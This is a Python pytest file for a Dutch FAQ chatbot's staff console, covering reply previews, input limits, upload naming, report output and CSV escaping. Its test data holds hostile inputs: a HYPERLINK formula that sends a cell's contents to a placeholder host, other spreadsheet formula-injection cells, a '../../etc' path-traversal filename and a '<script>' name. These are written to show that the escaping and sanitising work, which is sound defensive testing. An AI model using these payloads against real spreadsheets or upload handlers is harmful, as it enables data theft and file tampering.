"""Vraag testen and Lijst testen: the visitor's reply, bounded input, and the same files `make ask` writes."""
from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from typing import Any, Dict, List

import pytest

from tests.support.console import Running, parse_result
from vraagbaak.console import batch
from vraagbaak.console.jobs import ConsoleError, Job
from vraagbaak.console.preview import Block, build_preview, text_blocks, visitor_reply
from vraagbaak.core import replies
from vraagbaak.core.knowledge_base import KnowledgeBase
from vraagbaak.core.outcomes import CHOICE_INTENT, FALLBACK_INTENT, INTENT_OUTCOMES, Outcome
from vraagbaak.evaluation import offline as ev
from vraagbaak.reports import ask
from vraagbaak.reports import shared as reports


def parses(kb: KnowledgeBase) -> List[Dict[str, Any]]:
    """One parse result per kind of intent, plus unsure ones."""
    results = [parse_result("vraag", t.intent, [(t.intent, 0.9), ("faq_kritiek", 0.05)]) for t in kb.topics]
    # A typed number: the guard only says "choice" for text like "2" (replies.choose clarifies anything else).
    results += [parse_result("2" if i == CHOICE_INTENT else "vraag", i, [(i, 0.9)]) for i in INTENT_OUTCOMES]
    results += [
        parse_result("vraag", FALLBACK_INTENT, [("faq_beleid", 0.42), ("faq_rapport", 0.38)]),
        parse_result("hoe laat", FALLBACK_INTENT, [("chat_buiten_bereik", 0.5), ("faq_beleid", 0.1)]),
        parse_result("2", CHOICE_INTENT, [(CHOICE_INTENT, 1.0)]),
    ]
    return results


def test_the_visitor_reply_matches_what_the_reports_say_the_bot_does(kb: KnowledgeBase) -> None:
    for parsed in parses(kb):
        reply = visitor_reply(kb, parsed)
        decision = ev.outcome_of(kb, parsed)
        assert reply.outcome == decision.outcome, parsed["intent"]
        assert reply.topic_id == (decision.topic_id if decision.outcome == Outcome.ANSWERED else None)
        assert reply.messages and all(m.get("text") for m in reply.messages)


def test_an_answer_is_the_official_text_with_its_related_buttons(kb: KnowledgeBase) -> None:
    topic = kb.by_id("pooiers") or kb.topics[0]
    preview = build_preview(
        kb,
        "Wat met pooiers?",
        parse_result("x", topic.intent, [(topic.intent, 0.93), ("faq_kritiek", 0.04), ("faq_beleid", 0.02)]),
    )
    expected = replies.answer(kb, topic)
    assert preview.outcome == Outcome.ANSWERED and not preview.doubtful
    assert preview.messages[0].official and not any(m.official for m in preview.messages[1:])
    # One message per paragraph or list, as Rasa's REST and socket.io channels send them.
    assert len(preview.messages) == len(topic.answer_text.split("\n\n")) + 1
    shown = "\n\n".join(
        "\n".join(("• " + line) if block.kind == "ul" else line for line in block.lines)
        for message in preview.messages[:-1]
        for block in message.blocks
    )
    assert shown == topic.answer_text
    assert preview.messages[-1].buttons == [b["title"] for b in expected.messages[1]["buttons"]]
    assert preview.recognised is not None and preview.recognised.label == topic.title
    assert [c.confidence for c in preview.runners_up] == [0.04, 0.02]
    assert all("faq_" not in c.label for c in preview.runners_up)


def test_an_unsure_question_is_doubtful_and_offers_choices(kb: KnowledgeBase) -> None:
    preview = build_preview(
        kb, "beleid?", parse_result("beleid?", FALLBACK_INTENT, [("faq_beleid", 0.42), ("faq_rapport", 0.38)])
    )
    assert preview.outcome == Outcome.CLARIFIED and preview.doubtful
    assert preview.messages[-1].buttons[-1] == kb.message("knop_geen_van_deze")


def test_text_blocks_like_the_widget() -> None:
    assert text_blocks("Een\ntwee\n\n• a\n• b\nDaarna") == [
        Block("p", ("Een", "twee")),
        Block("ul", ("a", "b")),
        Block("p", ("Daarna",)),
    ]
    assert text_blocks("") == []


# ---------------------------------------------------------------- bounds of a list


@pytest.mark.parametrize(
    "pasted, name, body, message",
    [
        ("", None, None, "Plak vragen"),
        ("   \n", None, None, "Plak vragen"),
        (None, "vragen.txt", b"a" * 1_000_001, "te groot"),
        (None, "vragen.docx", b"Wat met pooiers?", ".txt"),
        (None, "vragen.txt", "Wat met pooiers?".encode("utf-16"), "UTF-8"),
        ("vraag\n" * 501, None, None, "meer dan 500"),
        ("a" * 1_000_001, None, None, "te lang"),
    ],
)
def test_lists_are_bounded_before_any_work(
    pasted: str | None, name: str | None, body: bytes | None, message: str
) -> None:
    with pytest.raises(ConsoleError, match=message):
        batch.read_list(pasted, name, body)


def test_uploads_keep_a_safe_name() -> None:
    source = batch.read_list(None, "../../etc/Mijn vragen.csv", "\ufeffWat met pooiers?\n".encode())
    assert source.name == "Mijn vragen.csv" and source.content == "Wat met pooiers?\n"
    assert batch.read_list("Wat met pooiers?", None, None).name == "vragen.txt"
    assert batch.safe_name("<script>.txt") == "script.txt"


def test_a_list_gives_exactly_the_files_make_ask_writes(kb: KnowledgeBase, tmp_path: Path) -> None:
    content = "# kop\nWat met pooiers? || pooiers\nHoe laat is het? || buiten bereik\nbeleid\nfout || onbekend_onderwerp\n"
    source = batch.ListInput("vragen.txt", content)
    from tests.support.console import FakeRasa

    rasa = FakeRasa()
    result = batch.run_list(kb, rasa.parse, source, Job("lijst", "Lijst"))
    assert [row.question.line for row in result.rows] == [2, 3, 4]
    assert [str(p) for p in result.problems] and result.problems[0].line == 5
    assert result.misses == 1 and result.with_expectation == 2 and result.doubtful == [False, True, True]
    # What `make ask` writes for the same rows (ask.write_reports), byte for byte (the report's minute aside).
    html_path, csv_path = ask.write_reports(
        kb, result.rows, result.problems, Path("vragen.txt"), tmp_path, batch.MODE
    )
    assert result.csv == csv_path.read_bytes()
    assert result.csv.startswith("\ufeffregel;vraag;verwacht;antwoord;zekerheid;uitkomst;klopt".encode())
    assert strip_time(result.html.decode()) == strip_time(html_path.read_text(encoding="utf-8"))


def strip_time(page: str) -> str:
    import re

    return re.sub(r"\d\d-\d\d-\d{4} \d\d:\d\d", "", page)


# ---------------------------------------------------------------- through the app


async def test_testing_one_question(running: Running) -> None:
    async with running.client() as client:
        await running.login(client)
        token = await running.csrf(client, "/vraag")
        async with client.post(
            running.url + "/vraag", data={"csrf": token, "vraag": "Wat met de pooiers?"}
        ) as response:
            page = await response.text()
        assert response.status == 200
        assert 'id="herkend">Beschermt Amnesty pooiers?' in page and "93,0%" in page
        assert "Officieel antwoord van Amnesty International" in page and 'id="buren"' in page
        assert page.count("<tr><td>") >= 2 + 5  # two runners-up and five training phrasings
        too_long = {"csrf": token, "vraag": "a" * 1001}
        async with client.post(running.url + "/vraag", data=too_long) as response:
            assert response.status == 422 and "hoogstens 1000 tekens" in await response.text()
        async with client.post(running.url + "/vraag", data={"csrf": token, "vraag": "  "}) as response:
            assert response.status == 422
    assert running.rasa.parsed == ["Wat met de pooiers?"]


async def test_a_list_runs_in_the_background_and_downloads(running: Running) -> None:
    async with running.client() as client:
        await running.login(client)
        token = await running.csrf(client, "/lijst")
        data = {"csrf": token, "vragen": "Wat met pooiers? || pooiers\nbeleid || pooiers\n"}
        async with client.post(running.url + "/lijst", data=data, allow_redirects=False) as response:
            assert response.status == 303
            location = response.headers["Location"]
        job_id = location.rsplit("/", 1)[1]
        for _ in range(100):
            async with client.get(f"{running.url}/taken/{job_id}") as response:
                status = await response.json()
            if status["klaar"]:
                break
            await asyncio.sleep(0.05)
        assert status["status"] == "klaar" and status["gedaan"] == status["totaal"] == 2
        async with client.get(running.url + location) as response:
            page = await response.text()
        assert "bij <strong>1 van 2</strong>" in page and 'class="aandacht"' in page and "Verbeteren" in page
        async with client.get(f"{running.url}/lijst/{job_id}/antwoorden.csv") as response:
            assert response.headers["Content-Disposition"] == 'attachment; filename="vragen.csv"'
            assert (await response.read()).decode("utf-8-sig").count("\r\n") == 3
        async with client.get(f"{running.url}/lijst/{job_id}/antwoorden.html") as response:
            assert "sandbox" in response.headers["Content-Security-Policy"]
    async with running.client() as other:
        await running.login(other, name="Bo")
        async with other.get(f"{running.url}/lijst/{job_id}/antwoorden.csv") as response:
            assert response.status == 404  # someone else's list stays theirs


async def test_an_oversized_upload_is_refused_in_dutch(running: Running) -> None:
    async with running.client() as client:
        await running.login(client)
        token = await running.csrf(client, "/lijst")
        import aiohttp

        form = aiohttp.FormData()
        form.add_field("csrf", token)
        form.add_field("bestand", b"a\n" * 600_000, filename="groot.txt", content_type="text/plain")
        async with client.post(running.url + "/lijst", data=form) as response:
            assert response.status == 422 and "hoogstens 1 MB" in await response.text()
        form = aiohttp.FormData()
        form.add_field("csrf", token)
        form.add_field("bestand", b"a" * 3_000_000, filename="enorm.txt", content_type="text/plain")
        async with client.post(running.url + "/lijst", data=form) as response:
            assert response.status == 413 and "hoogstens 1 MB" in await response.text()
    assert running.rasa.parsed == []


def test_the_closest_training_phrasings_follow_the_files(tmp_path: Path) -> None:
    from vraagbaak.console.review import add_staff_phrasing
    from vraagbaak.console.similar import PhrasingIndex

    staff = tmp_path / "medewerkers.yml"
    add_staff_phrasing(staff, "Wat vindt Amnesty van pooiers?", "faq_pooiers")
    add_staff_phrasing(staff, "Hoe laat is het?", "chat_buiten_bereik")
    index = PhrasingIndex(lambda: [staff])
    nearest = index.nearest("wat vindt amnesty van pooiers")
    assert nearest[0].text == "Wat vindt Amnesty van pooiers?" and nearest[0].similarity > 0.9
    assert len(nearest) <= 5
    add_staff_phrasing(staff, "Steunt Amnesty souteneurs?", "faq_pooiers")
    assert index.nearest("Steunt Amnesty souteneurs")[0].text == "Steunt Amnesty souteneurs?"
    assert PhrasingIndex(lambda: []).nearest("iets") == []


# ---------------------------------------------------------------- no formulas in the CSV


FORMULAS = [
    '=HYPERLINK("https://voorbeeld.invalid/?q="&A1;"Klik hier")',
    "+31 6 pooiers",
    "-1+1",
    "@SUM(A1:A2)",
]


def formula_cells(csv_file: bytes) -> List[str]:
    """The cells a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO(csv_file.decode("utf-8-sig")), delimiter=ask.CSV_DELIMITER)
    return [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def list_csv(kb: KnowledgeBase, questions: List[str]) -> bytes:
    from tests.support.console import FakeRasa

    source = batch.ListInput("vragen.txt", "\n".join(questions) + "\n")
    return batch.run_list(kb, FakeRasa().parse, source, Job("lijst", "Lijst")).csv


def test_the_csv_escapes_every_cell_that_could_be_a_formula(kb: KnowledgeBase) -> None:
    csv_file = list_csv(kb, [*FORMULAS, "Wat met pooiers?"])
    assert formula_cells(csv_file) == []
    text = csv_file.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'+31 6 pooiers" in text and "'-1+1" in text and "'@SUM(A1:A2)" in text
    assert ";Wat met pooiers?;" in text  # a normal cell is unchanged


def test_the_formula_check_would_catch_a_csv_without_escaping(
    kb: KnowledgeBase, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reports, "spreadsheet_cell", str)  # the escaping taken out
    assert sorted(formula_cells(list_csv(kb, FORMULAS))) == sorted(FORMULAS)


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Wat met pooiers?", "Wat met pooiers?"),
        ("a=1", "a=1"),
        ("", ""),
        (0.93, "0.93"),
    ],
)
def test_spreadsheet_cells(cell: object, written: str) -> None:
    assert reports.spreadsheet_cell(cell) == written


def test_the_test_pane_shows_the_safety_layers_decision_and_why(kb: KnowledgeBase) -> None:
    from vraagbaak.console.preview import build_preview

    verdict = {
        "nood": True,
        "score": 0.93,
        "drempel": 0.25,
        "signalen": ["vast", "dringend"],
        "niet_acuut": [],
    }
    danger = {
        "text": "ik zit hier vast",
        "intent": {"name": "veilig_in_nood", "confidence": 1.0},
        "intent_ranking": [{"name": "veilig_in_nood", "confidence": 1.0}],
        "veiligheid": verdict,
    }
    preview = build_preview(kb, "ik zit hier vast", danger)
    assert preview.emergency and preview.outcome == Outcome.EMERGENCY
    assert preview.safety.startswith("noodbericht (score 0.93, grens 0.25)")
    assert "vastgehouden of gedwongen" in preview.safety
    shown = " ".join(line for m in preview.messages for b in m.blocks for line in b.lines)
    assert kb.help_lines.emergency in shown and kb.help_lines.not_police[0].number in shown
    calm = {**danger, "intent": {"name": "faq_pooiers", "confidence": 0.9}, "intent_ranking": []}
    calm["veiligheid"] = {**verdict, "nood": False, "score": 0.02, "niet_acuut": ["verleden"]}
    preview = build_preview(kb, "vorig jaar", calm)
    assert not preview.emergency and preview.safety.startswith("geen noodbericht")
    assert "wijst op niet-acuut: verleden" in preview.safety
